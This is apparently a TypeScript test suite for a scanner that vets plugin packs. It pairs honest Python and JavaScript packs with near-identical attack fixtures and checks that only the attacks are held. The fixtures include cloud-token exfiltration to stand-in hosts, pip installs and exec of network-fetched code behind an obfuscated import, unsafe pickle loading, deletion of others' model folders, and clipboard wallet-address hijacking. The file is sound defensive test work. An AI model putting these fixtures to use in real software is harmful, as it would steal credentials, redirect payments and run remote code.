import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { filesOfRecord } from '../archive/pack-files.ts'
import { isBlocking } from '../ground/finding.ts'
import { inspectPack } from '../inspection/inspect.ts'
import { testParser } from '../python/parser.test-support.ts'

const parser = await testParser()
const heldBy = async (files: Record<string, string>) =>
  (await inspectPack(filesOfRecord(files), parser)).findings.filter(isBlocking).map(({ rule }) => rule)

const pip =
  'import subprocess, sys\ndef install(what):\n    subprocess.run([sys.executable, "-m", "pip", "install", what])\n'
const version =
  'import requests\nlatest = requests.get("https://api.github.com/repos/a/b/releases/latest").json()["tag_name"]\n'

/** Classes of honest packs that were held, each with the nearest attack. */
const classes: Record<string, { honest: Record<string, string>; attack: Record<string, string> }> = {
  'a version number from the network in a fixed address or after a fixed name': {
    honest: {
      '__init__.py': `${pip}${version}install(f"https://github.com/a/b/releases/download/v{latest}/b-{latest}.whl")\ninstall(f"b=={latest}")\n`,
    },
    attack: { '__init__.py': `${pip}${version}install(f"https://github.com/{latest}/b.whl")\n` },
  },
  'packages named by its own requirements, in a pack that writes pictures': {
    honest: {
      'utils.py': `import os, requests\n${pip}def join(a, b):\n    return os.path.join(a, b).replace(os.sep, "/")\ndef save(url, place):\n    with open(join(place, url[-8:] + ".webp"), "wb") as f:\n        f.write(requests.get(url).content)\n`,
      '__init__.py':
        'import os\nfrom . import utils\nendings = [".webp", ".jpeg"]\nwith open(utils.join(os.path.dirname(__file__), "requirements.txt")) as f:\n    for line in f.readlines():\n        utils.install(line.strip())\n',
    },
    attack: {
      '__init__.py': `import os, requests\n${pip}where = os.path.join(os.path.dirname(__file__), "requirements.txt")\nopen(where, "wb").write(requests.get("https://a.example/r").content)\nfor line in open(where).readlines():\n    install(line.strip())\n`,
    },
  },
  'its own pickles beside downloaded files': {
    honest: {
      'utils.py': `import os, pickle, requests\ndef join(a, b):\n    return os.path.join(a, b).replace(os.sep, "/")\ndef save(url, place):\n    with open(join(place, url[-8:] + ".webp"), "wb") as f:\n        f.write(requests.get(url).content)\ndef keep(place, name, task):\n    with open(join(place, name + ".task"), "wb") as f:\n        pickle.dump(task, f)\ndef kept(place, name):\n    with open(join(place, name + ".task"), "rb") as f:\n        return pickle.load(f)\nendings = [".webp", ".jpeg"]\n`,
      '__init__.py':
        'from . import utils\nimport folder_paths\nwhere = folder_paths.get_user_directory()\nutils.keep(where, where, {"state": 1})\nutils.kept(where, where)\n',
    },
    attack: {
      '__init__.py':
        'import os, pickle, requests\ndef fetch(path):\n    with open(path, "wb") as f:\n        f.write(requests.get("https://a.example/t").content)\nwhere = os.path.join("tasks", "a.task")\nfetch(where)\npickle.load(open(where, "rb"))\n',
    },
  },
  'addresses that only its tests name': {
    honest: {
      '__init__.py': 'from .send import Send\nNODE_CLASS_MAPPINGS = {"Send": Send}\n',
      'send.py':
        'import requests\nclass Send:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {"url": ("STRING",)}, "hidden": {"prompt": "PROMPT"}}\n    FUNCTION = "run"\n    def run(self, url, prompt=None):\n        requests.post(url, json=prompt)\n',
      'tests/test_send.py':
        'from send import Send\ndef test_send():\n    Send().run("https://hooks.example/1", {"a": 1})\n',
    },
    attack: {
      '__init__.py':
        'from .send import Send\nfrom .tests import test_send\nNODE_CLASS_MAPPINGS = {"Send": Send}\n',
      'send.py':
        'import requests\nclass Send:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {}, "hidden": {"prompt": "PROMPT"}}\n    FUNCTION = "run"\n    def run(self, prompt=None):\n        from .tests.test_send import send\n        send(prompt)\n',
      'tests/__init__.py': '',
      'tests/test_send.py':
        'import requests\ndef send(data):\n    requests.post("https://hooks.example/1", json=data)\n',
    },
  },
  'tests that no computed import can load': {
    honest: {
      '__init__.py': 'from . import nodes\n',
      'nodes.py': 'def run(m):\n    print(m.code())\n',
      'tests/helper.py':
        'import requests\ndef code():\n    return requests.get("https://a.example/x").text\n',
    },
    attack: {
      '__init__.py':
        'import importlib\nm = importlib.import_module("." + "stset"[::-1] + ".helper", __name__)\nexec(m.code())\n',
      'tests/__init__.py': '',
      'tests/helper.py':
        'import requests\ndef code():\n    return requests.get("https://a.example/x").text\n',
    },
  },
  'the token of a cloud for a service of that cloud': {
    honest: {
      '__init__.py':
        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\ndef run(location, data):\n    requests.post(f"https://{location}-aiplatform.googleapis.com/v1/predict", headers={"Authorization": token}, json=data)\n',
    },
    attack: {
      '__init__.py':
        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\nrequests.post("https://a.example/u", headers={"Authorization": token})\n',
    },
  },
  'the token of a cloud, with a second receiver': {
    honest: {
      '__init__.py':
        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\nrequests.post("https://us-aiplatform.googleapis.com/v1", headers={"Authorization": token})\n',
    },
    attack: {
      '__init__.py':
        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\nrequests.post("https://us-aiplatform.googleapis.com/v1", headers={"Authorization": token})\ndef run(where):\n    requests.post(where, data=token)\n',
    },
  },
  'the token of a cloud, with its name behind the host': {
    honest: {
      '__init__.py':
        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\nrequests.post("https://us-aiplatform.googleapis.com/v1", headers={"Authorization": token})\n',
    },
    attack: {
      '__init__.py':
        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\nrequests.post("https://a.example?-aiplatform.googleapis.com", data=token)\n',
    },
  },
  'the token of a cloud, for a region that the network names': {
    honest: {
      '__init__.py':
        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\nrequests.post("https://us-aiplatform.googleapis.com/v1", headers={"Authorization": token})\n',
    },
    attack: {
      '__init__.py':
        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\nwhere = requests.get("https://a.example/r").text\nrequests.post(f"https://{where}-aiplatform.googleapis.com/v1", data=token)\n',
    },
  },
  'its own folder beside the models of others': {
    honest: {
      '__init__.py':
        'import os, shutil, folder_paths\nshutil.rmtree(os.path.join(folder_paths.models_dir, "voicefixer"))\n',
    },
    attack: {
      '__init__.py':
        'import os, shutil, folder_paths\nshutil.rmtree(os.path.join(folder_paths.models_dir, "loras"))\n',
    },
  },
  'a button that copies the author’s address for donations': {
    honest: {
      'js/copy.js':
        'export async function copy(text) { if (navigator.clipboard) await navigator.clipboard.writeText(text) }\n',
      'js/about.js':
        'import { copy } from "./copy.js"\nconst about = { address: "0x1111111111111111111111111111111111111111" }\ndocument.querySelector("#give").addEventListener("click", async () => copy(about.address))\n',
    },
    attack: {
      'js/copy.js':
        'export async function copy(text) { if (navigator.clipboard) await navigator.clipboard.writeText(text) }\n',
      'js/about.js':
        'import { copy } from "./copy.js"\nconst about = { address: "0x1111111111111111111111111111111111111111" }\nwindow.addEventListener("click", async () => { if ((await navigator.clipboard.readText()).startsWith("0x")) copy(about.address) })\n',
    },
  },
}

describe('honest packs', () => {
  for (const [name, { honest, attack }] of Object.entries(classes)) {
    it(`are not held for ${name}`, async () => assert.deepEqual(await heldBy(honest), []))
    it(`differ from attacks: ${name}`, async () => assert.notDeepEqual(await heldBy(attack), []))
  }
})

describe('an address for payments in the clipboard', () => {
  const write = 'navigator.clipboard.writeText("0x1111111111111111111111111111111111111111")'
  const attacks = {
    'in a pack that reads the clipboard in another script': {
      'js/a.js': `export const put = () => ${write}\n`,
      'js/b.js': 'navigator.clipboard.readText().then((text) => window.dispatchEvent(new Event(text)))\n',
    },
    'after the user copied': {
      'js/a.js': `document.addEventListener("copy", () => setTimeout(() => ${write}))\n`,
    },
    'again and again': { 'js/a.js': `setInterval(() => ${write}, 1000)\n` },
    'after a key': { 'js/a.js': `document.addEventListener("keyup", () => ${write})\n` },
    'decoded first': {
      'js/a.js': `button.onclick = () => navigator.clipboard.writeText(atob("${btoa(`0x${'1'.repeat(40)}`)}"))\n`,
    },
    'joined first': {
      'js/a.js': `button.onclick = () => navigator.clipboard.writeText(["0x", "${'1'.repeat(40)}"].join(""))\n`,
    },
  }
  for (const [name, files] of Object.entries(attacks))
    it(`holds a pack: ${name}`, async () => assert.ok((await heldBy(files)).includes('wallet-access')))
  it('holds no pack that reads nothing and copies for a click', async () =>
    assert.deepEqual(await heldBy({ 'js/a.js': `button.onclick = () => ${write}\n` }), []))
})
